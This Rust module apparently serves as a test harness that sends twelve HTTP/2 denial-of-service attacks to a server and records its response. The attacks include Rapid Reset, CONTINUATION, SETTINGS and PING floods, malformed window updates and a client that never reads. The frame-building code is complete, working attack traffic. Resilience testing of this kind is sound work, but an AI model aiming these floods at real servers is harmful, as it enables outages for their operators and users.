//! What a client can do to an HTTP/2 server that no client should: each a function over any byte stream that the server takes for a lane or a connection.
//!
//! It needs tokio alone, so that programs can include it.

use std::{io, time::Duration};

use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _, ReadHalf, split},
    time::timeout,
};

/// How an attack ended.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Outcome {
    /// Bytes that the server's side accepted.
    pub sent: u64,
    /// Bytes that the server sent.
    pub received: u64,
    /// The error code of the server's GOAWAY.
    pub goaway: Option<u32>,
    /// The server ended the connection, with GOAWAY or without. Otherwise it answered a ping after the attack.
    pub ended: bool,
}

/// The attacks that end by themselves.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// 50,000 calls that are reset as soon as they are begun.
    RapidReset,
    /// A block of headers without end.
    ContinuationFlood,
    SettingsFlood,
    PingFlood,
    /// A list of headers of 1 MB, in a block that ends.
    HeaderList,
    /// 100,000 DATA frames of no byte, in a call.
    EmptyFrames,
    /// 100,000 DATA frames of one byte, in a call.
    TinyFrames,
    /// A window that grows by nothing.
    WindowOfZero,
    /// A window that grows beyond what there are numbers for.
    WindowOverflow,
    /// A window that grows by one, again and again.
    WindowsOfOne,
    /// Frames of a type that does not exist.
    UnknownFrames,
    /// Changes of priority, which no server heeds any more.
    PriorityFlood,
}

impl Attack {
    pub const ALL: [Self; 12] = [
        Self::RapidReset,
        Self::ContinuationFlood,
        Self::SettingsFlood,
        Self::PingFlood,
        Self::HeaderList,
        Self::EmptyFrames,
        Self::TinyFrames,
        Self::WindowOfZero,
        Self::WindowOverflow,
        Self::WindowsOfOne,
        Self::UnknownFrames,
        Self::PriorityFlood,
    ];

    /// All that the attack sends, with `path` as the method of its calls. To be made once: that takes longer than to send it.
    pub fn script(self, path: &str) -> Vec<Vec<u8>> {
        let call = |stream| frame(HEADERS, END_HEADERS, stream, &request(path));
        let mut first = hello();
        let many = |piece: Vec<u8>, count: usize| vec![piece.repeat(100); count / 100];
        let mut pieces = match self {
            Self::RapidReset => (0..500)
                .map(|hundred| {
                    let streams = (0..100).map(|number| 1 + 2 * (hundred * 100 + number));
                    let reset = |stream| frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                    streams
                        .flat_map(|stream| [call(stream), reset(stream)].concat())
                        .collect()
                })
                .collect(),
            Self::ContinuationFlood => {
                first.extend(frame(HEADERS, 0, 1, &request(path)));
                vec![frame(CONTINUATION, 0, 1, &header(16_000)); 1000]
            }
            Self::SettingsFlood => many(frame(SETTINGS, 0, 0, &[]), 100_000),
            Self::PingFlood => many(frame(PING, 0, 0, &[7; 8]), 100_000),
            Self::HeaderList => {
                first.extend(frame(HEADERS, 0, 1, &request(path)));
                let mut list = vec![frame(CONTINUATION, 0, 1, &header(16_000)); 63];
                list.push(frame(CONTINUATION, END_HEADERS, 1, &header(16)));
                list
            }
            Self::EmptyFrames => {
                first.extend(call(1));
                many(frame(DATA, 0, 1, &[]), 100_000)
            }
            Self::TinyFrames => {
                first.extend(call(1));
                many(frame(DATA, 0, 1, &[0]), 100_000)
            }
            Self::WindowOfZero => vec![frame(WINDOW_UPDATE, 0, 0, &[0; 4])],
            Self::WindowOverflow => vec![frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0xff, 0xff]); 2],
            Self::WindowsOfOne => many(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]), 100_000),
            Self::UnknownFrames => many(frame(0xfa, 0, 0, &[]), 100_000),
            Self::PriorityFlood => many(frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1]), 100_000),
        };
        pieces.insert(0, first);
        pieces.push(frame(PING, 0, 0, &LAST));
        pieces
    }
}

/// Makes that many calls over `io` and reads nothing, until `enough` resolves. Returns how many bytes of calls the server took.
pub async fn never_reads<S: AsyncRead + AsyncWrite>(
    io: S,
    path: &str,
    calls: u32,
    body: &[u8],
    enough: impl Future<Output = ()>,
) -> u64 {
    let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // Windows without bounds, so that only the transport's stop the server.
    let window = [0, 4, 0x7f, 0xff, 0xff, 0xff];
    hello.extend(frame(SETTINGS, 0, 0, &window));
    hello.extend(frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xfe, 0xff, 0xff]));
    let (_unread, mut write) = split(io);
    let mut sent = 0;
    let writes = async {
        write.write_all(&hello).await?;
        for number in 0..calls {
            let stream = 1 + 2 * number;
            let mut call = frame(HEADERS, END_HEADERS, stream, &request(path));
            call.extend(frame(DATA, END_STREAM, stream, body));
            write.write_all(&call).await?;
            sent += call.len() as u64;
        }
        io::Result::Ok(())
    };
    let mut enough = std::pin::pin!(enough);
    tokio::select! {
        _ = writes => enough.as_mut().await,
        () = &mut enough => {}
    }
    sent
}

pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
pub const PRIORITY: u8 = 2;
pub const RST_STREAM: u8 = 3;
pub const SETTINGS: u8 = 4;
pub const PING: u8 = 6;
pub const GOAWAY: u8 = 7;
pub const WINDOW_UPDATE: u8 = 8;
pub const CONTINUATION: u8 = 9;
pub const END_STREAM: u8 = 1;
pub const ACK: u8 = 1;
pub const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;

/// One frame: RFC 9113, section 4.1.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, len @ ..] = (payload.len() as u32).to_be_bytes();
    let mut frame = len.to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The client's preface and empty settings.
pub fn hello() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

/// The headers of a gRPC call, in HPACK without its table or its codes (RFC 7541).
pub fn request(path: &str) -> Vec<u8> {
    // POST and http, by their numbers in the static table; then the path, the authority, the type and `te`.
    let mut block = vec![0x83, 0x86, 0x04];
    text(&mut block, path.as_bytes());
    block.push(0x01);
    text(&mut block, b"peer");
    block.extend([0x0f, 0x10]);
    text(&mut block, b"application/grpc");
    block.push(0);
    text(&mut block, b"te");
    text(&mut block, b"trailers");
    block
}

/// One header with a value of so many bytes.
fn header(len: usize) -> Vec<u8> {
    let mut block = vec![0];
    text(&mut block, b"x-a");
    text(&mut block, &vec![b'a'; len]);
    block
}

/// A string of HPACK: its length in a prefix of seven bits, and its bytes.
fn text(block: &mut Vec<u8>, bytes: &[u8]) {
    let mut rest = bytes.len();
    if rest < 127 {
        block.push(rest as u8);
    } else {
        block.push(127);
        rest -= 127;
        while rest >= 128 {
            block.push((rest % 128) as u8 | 128);
            rest /= 128;
        }
        block.push(rest as u8);
    }
    block.extend(bytes);
}

/// What the ping says that ends each attack.
const LAST: [u8; 8] = *b"the last";

/// Sends a [script](Attack::script) over `io`, until all of it is sent and its last ping is answered, or the server ends the connection.
pub async fn attack<S: AsyncRead + AsyncWrite>(io: S, script: &[Vec<u8>]) -> Outcome {
    let (read, mut write) = split(io);
    let mut sent = 0;
    let writes = async {
        for piece in script {
            if write.write_all(piece).await.is_err() {
                break;
            }
            sent += piece.len() as u64;
        }
        // Kept open: the server's last words may be on their way.
        write
    };
    // A server that hangs is found by whoever waits for this.
    let (_write, mut outcome) = tokio::join!(writes, listen(read));
    outcome.sent = sent;
    outcome
}

/// Reads until the ping with these bytes is answered or the connection ends.
async fn listen<S: AsyncRead + AsyncWrite>(mut read: ReadHalf<S>) -> Outcome {
    let mut outcome = Outcome::default();
    loop {
        let Ok((kind, flags, payload)) = next(&mut read).await else {
            outcome.ended = true;
            return outcome;
        };
        outcome.received += 9 + payload.len() as u64;
        match kind {
            GOAWAY if payload.len() >= 8 => {
                let code = [payload[4], payload[5], payload[6], payload[7]];
                outcome.goaway = Some(u32::from_be_bytes(code));
                outcome.ended = true;
                // What is left of the connection is read, so that a reset does not overtake it.
                let rest = async { while next(&mut read).await.is_ok() {} };
                let _ = timeout(Duration::from_secs(1), rest).await;
                return outcome;
            }
            PING if flags & ACK != 0 && payload == LAST => return outcome,
            _ => {}
        }
    }
}

async fn next(read: &mut (impl AsyncRead + Unpin)) -> io::Result<(u8, u8, Vec<u8>)> {
    let mut head = [0; 9];
    read.read_exact(&mut head).await?;
    let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
    let mut payload = vec![0; len];
    read.read_exact(&mut payload).await?;
    Ok((head[3], head[4], payload))
}
